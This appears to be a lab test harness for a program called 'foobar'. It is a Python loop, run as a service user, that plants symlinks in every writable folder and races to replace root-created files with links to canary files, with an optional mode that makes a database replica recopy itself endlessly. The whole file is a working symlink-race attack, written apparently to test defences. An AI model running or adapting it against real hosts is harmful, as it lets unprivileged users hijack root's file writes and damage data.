"""An attacker's loop, run as one of a host's service users: in every folder in
which it may make names it replaces what root has just made by links to root's
canaries, and puts such links where root's temporary names would come."""
import os, pwd, re, sys, time

FILE, FOLDER = "/root/canary", "/root/canary.d"
ME = pwd.getpwuid(os.getuid()).pw_name
# What foobar calls what it writes, and its files in the collector's folder.
OURS = re.compile(r"foobar|\.new$|\.part$|^tmp\.|^said$|^sumologic\.yaml$|^token\.env$|^ca\.pem$|^check|^seed")
PLANTED = ("foobar-new", ".foobar-new", "foobar.lock", "foobar.lock.info", "foobar-attach.sql")
if "marks" in sys.argv:  # with these in its data a replica is copied anew, again and again
    PLANTED += ("foobar-seed", "foobar-begun")
# In the server's data other names are databases and tables.
DATA = re.compile(r"\.?foobar-")


def mine():
    found = []
    for top in ("/etc", "/srv", "/run", "/tmp", "/var", "/dev/shm", "/home", "/opt", "/usr/local"):
        for folder, inner, _ in os.walk(top):
            if folder.count("/") > 6:
                inner.clear()
            if os.access(folder, os.W_OK | os.X_OK):
                found.append(folder)
    return found


def link(folder, name, target):
    path = os.path.join(folder, name)
    try:
        os.symlink(target, path)
        return True
    except OSError:
        return False


def replace(folder, name):
    path = os.path.join(folder, name)
    try:
        is_folder = os.path.isdir(path) and not os.path.islink(path)
        if os.path.islink(path) and os.readlink(path).startswith(FILE):
            return
        try:
            os.rename(path, path + ".was-%d" % os.getpid())
        except OSError:
            os.unlink(path)
        if link(folder, name, FOLDER if is_folder else FILE):
            print("replaced %s by %s" % (path, ME), flush=True)
    except OSError:
        pass


folders, looked, known = [], 0, {}
while True:
    if time.monotonic() - looked > 2:
        folders, looked = mine(), time.monotonic()
        for folder in folders:
            if folder.startswith("/var/lib/mysql/"):
                continue  # a schema, which could then not be dropped
            for name in PLANTED:
                link(folder, name, FILE)
        for folder in ("/run/lock", "/dev/shm"):
            try:
                open(os.path.join(folder, "labtest-attacked-" + ME), "w").close()
            except OSError:
                pass
    for folder in folders:
        try:
            names = os.listdir(folder)
        except OSError:
            continue
        before = known.setdefault(folder, set(names))
        for name in names:
            if ".was-" in name or name.startswith("labtest-"):
                continue
            ours = DATA.match(name) if folder.startswith("/var/lib/mysql") else OURS.search(name)
            if ours:
                replace(folder, name)
            elif name not in before:
                try:
                    if os.lstat(os.path.join(folder, name)).st_uid == 0:
                        replace(folder, name)
                except OSError:
                    pass
    time.sleep(0.0005)
